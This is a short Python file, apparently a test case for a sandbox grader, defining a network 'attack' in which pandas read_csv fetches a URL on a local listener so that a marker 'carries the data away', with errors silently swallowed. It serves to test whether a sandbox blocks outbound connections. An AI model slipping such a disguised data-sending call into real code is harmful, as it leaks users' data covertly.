"""Pandas reads a table from an address; the address carries the data away."""

from __future__ import annotations

from grader.attacks.attack import Attack, Want
from grader.attacks.moves import answer

ATTACK = Attack(
    kind="network",
    wants=Want.CONNECT,
    make=answer(
        """
import pandas as pd

try:
    pd.read_csv(f"http://127.0.0.1:{TCP}/{MARKER}.csv")
except Exception:
    pass
"""
    ),
)
